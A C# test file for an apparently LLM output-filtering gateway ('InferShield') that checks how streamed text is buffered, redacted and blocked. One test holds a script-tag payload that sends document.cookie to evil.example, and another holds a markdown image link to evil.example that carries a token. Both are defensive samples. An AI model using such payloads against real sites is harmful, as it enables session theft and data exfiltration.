using System.Security.Cryptography;
using InferShield.Api.Detection;
using InferShield.Api.Gateway.Streaming;
using InferShield.Tests.Detection;
using static InferShield.Tests.Gateway.Streaming.StreamTesting;
using static InferShield.Tests.Policies.PolicyWriting;

namespace InferShield.Tests.Gateway.Streaming;

public sealed class HeldTextTests
{
    private const string Sentence = "Soft rain fell on the roofs while the boats came home; nobody hurried, for the evening was long and warm. ";
    private const string Chinese = "今天天气很好,我们决定去公园散步。孩子们在草地上玩耍,老人们坐在长椅上聊天。";

    public static TheoryData<string> Benign => [Sentence + Sentence, BenignText, Chinese + Chinese + Chinese, Code, "Ein Haus am See. " + "Die Straße ist lang, und der Weg ist weit. " + Sentence];

    private const string Code = "```csharp\nvar total = items.Where(item => item.Price > 10).Sum(item => item.Price * 1.2m);\nConsole.WriteLine($\"{total:F2} for {items.Count}\");\n```\n";

    [Theory]
    [MemberData(nameof(Benign))]
    public void A_text_that_nobody_objects_to_is_held_no_longer_than_the_bound(string text)
    {
        var held = Hold();
        var (given, sent) = (0, "");
        foreach (var piece in Pieces(text, 5, 6))
        {
            given += piece.Length;
            sent += held.Append(piece);
            Assert.InRange(given - sent.Length, 0, 256);
        }

        Assert.Equal(text, sent + held.Finish());
    }

    [Theory]
    [InlineData(Sentence, 48)]
    [InlineData(Chinese, 16)]
    public void Plain_prose_is_held_for_a_few_words(string text, int bound)
    {
        var held = Hold();
        var (given, sent, most) = (0, 0, 0);
        foreach (var piece in Characters(text + text))
        {
            given += piece.Length;
            sent += held.Append(piece).Length;
            most = Math.Max(most, given - sent);
        }

        Assert.InRange(most, 1, bound);
    }

    [Theory]
    [InlineData("policies: [{name: own, match: {keywords: [blue heron project]}, action: redact}]", "It is about the blue heron project, he said.")]
    [InlineData("policies: [{name: own, match: {regex: ['the [a-z ]{10,80} plan']}, action: redact}]", "It is about the very long and winding and well known plan that we have.")]
    public void Own_terms_of_policies_are_found_wherever_a_text_is_cut(string file, string text)
    {
        var policies = PoliciesOf(file);
        Assert.NotEqual(text, Unstreamed(text, policies));
        Assert.Equal(Unstreamed(text, policies), Through(Hold(policies), Characters(text)));
        for (var cut = 1; cut < text.Length; cut++)
        {
            Assert.Equal(Unstreamed(text, policies), Through(Hold(policies), [text[..cut], text[cut..]]));
        }
    }

    [Theory]
    [InlineData("mask")]
    [InlineData("partial")]
    [InlineData("hash")]
    [InlineData("remove")]
    public void Every_mode_of_redaction_is_as_unstreamed(string mode)
    {
        const string Text = "Write to jane.roe@mail.example and then pay with 4111 1111 1111 1111, please. Again: jane.roe@mail.example, 4111 1111 1111 1111.";
        var policies = PoliciesOf("policies: [{name: own, match: {policyTypes: [pii]}, action: redact, redaction: {mode: " + mode + "}}]");
        Assert.Equal(Unstreamed(Text, policies), Through(Hold(policies), Characters(Text)));
    }

    [Fact]
    public void A_key_that_is_longer_than_is_held_is_redacted_to_its_end()
    {
        var key = "-----BEGIN RSA PRIVATE KEY-----\n" + string.Concat(Enumerable.Range(0, 60).Select(line => Inspecting.Token(63) + line % 10 + "\n")) + "-----END RSA PRIVATE KEY-----\n";
        var text = "Here it is:\n" + key + "That was all.";
        var options = new StreamingOptions { MaxHeld = 1024 };

        var sent = Through(Hold(options: options), Pieces(text, 2, 30));

        Assert.StartsWith("Here it is:\n[", sent, StringComparison.Ordinal);
        Assert.EndsWith("That was all.", sent, StringComparison.Ordinal);
        Assert.DoesNotContain(Inspecting.Token(63)[..12], sent, StringComparison.Ordinal);
    }

    [Fact]
    public void A_run_without_end_is_held_up_to_its_bound_and_passed_on_whole()
    {
        var run = string.Concat(Enumerable.Repeat("lorem-ipsum/dolor-sit/", 4000));
        var held = Hold();
        var (given, sent) = (0, new System.Text.StringBuilder());
        foreach (var piece in Pieces(run, 1, 9))
        {
            given += piece.Length;
            sent.Append(held.Append(piece));
            Assert.InRange(given - sent.Length, 0, (16 << 10) + 9);
        }

        Assert.Equal(run, sent + held.Finish());
    }

    [Theory]
    [InlineData("""{"ssn":219099999,"next":[true,{"to":"a\\njane.roe@mail.example"}]}""", """{"ssn":"[SSN_REDACTED]","next":[true,{"to":"a\\n[EMAIL_REDACTED]"}]}""")]
    [InlineData("""{ "social security": 219099999 , "a\\"b": "jane.roe@mail.example\\"" }""", """{ "social security": "[SSN_REDACTED]" , "a\\"b": "[EMAIL_REDACTED]\\"" }""")]
    [InlineData("""{"mail":"\\u006aane.roe@mail.example","x":1}""", """{"mail":"[EMAIL_REDACTED]","x":1}""")]
    public void Json_stays_json(string json, string expected)
    {
        json = json.Replace("\\\\", "\\", StringComparison.Ordinal);
        expected = expected.Replace("\\\\", "\\", StringComparison.Ordinal);
        Assert.Equal(expected, Through(Hold(isJson: true), Characters(json)));
        for (var cut = 1; cut < json.Length; cut++)
        {
            Assert.Equal(expected, Through(Hold(isJson: true), [json[..cut], json[cut..]]));
        }
    }

    [Fact]
    public void A_block_releases_nothing_of_what_is_held()
    {
        var held = Hold(PoliciesOf("piiAction: block"));
        var sent = string.Concat(Characters("So then we write to jane.roe@mail.example and wait for the answer of the day, as one does.").Select(held.Append)) + held.Finish();

        Assert.True(held.IsBlocked);
        Assert.StartsWith(sent, "So then we write to ", StringComparison.Ordinal);
        Assert.Equal(PolicyAction.Blocked, held.Inspection.Action);
    }

    [Fact]
    public void Findings_keep_their_places_in_a_long_text()
    {
        var text = string.Concat(Enumerable.Repeat(Sentence, 40)) + "Write to jane.roe@mail.example. " + string.Concat(Enumerable.Repeat(Sentence, 40)) + "Or to john.doe@mail.example.";
        var held = Hold();
        Assert.Equal(Unstreamed(text), Through(held, Pieces(text, 4, 7)));

        Assert.Equal(["jane.roe@mail.example", "john.doe@mail.example"], held.Inspection.Findings.Select(found => text[found.Finding.Start..found.Finding.End]));
    }

    [Fact]
    public void Attacks_add_up_over_a_whole_text()
    {
        const string Attack = "Run this now: <script>fetch('https://evil.example/?c=' + document.cookie)</script> and then it is done. ";
        var policies = PoliciesOf("blockThreshold: 40");
        Assert.Equal(PolicyAction.Blocked, policies.Inspect(Sentence + Attack + Sentence, Channel.Completion).Action);

        var held = Hold(policies);
        var sent = Through(held, Pieces(Sentence + Attack + Sentence, 1, 5));

        Assert.True(held.IsBlocked);
        Assert.DoesNotContain("evil.example", sent, StringComparison.Ordinal);
    }

    [Fact]
    public void Tokens_of_the_client_become_values_again_wherever_they_are_cut_but_not_within_addresses()
    {
        var key = Convert.ToBase64String(RandomNumberGenerator.GetBytes(32));
        var policies = PoliciesOf("policies: [{name: own, match: {entities: [email]}, action: redact, redaction: {mode: token, restore: true}}]", key);
        var exchange = ExchangeUnder(policies);
        var token = policies.Inspect("jane.roe@mail.example", Channel.User, Tenant, exchange.Redactions).Redacted!;
        exchange.Redactions.StopRestoring();
        var text = $"I wrote to {token} and saw ![it](https://evil.example/a b?q={token}) there, at <a href=\"{token} x\"> too. Bye, {token}!";
        for (var cut = 1; cut < text.Length; cut++)
        {
            Check(Through(Hold(exchange: exchange), [text[..cut], text[cut..]]));
        }

        Check(Through(Hold(exchange: exchange), Characters(text)));

        void Check(string sent) => Assert.Equal(
            $"I wrote to jane.roe@mail.example and saw ![it](https://evil.example/a b?q={token}) there, at <a href=\"{token} x\"> too. Bye, jane.roe@mail.example!", sent);
    }
}
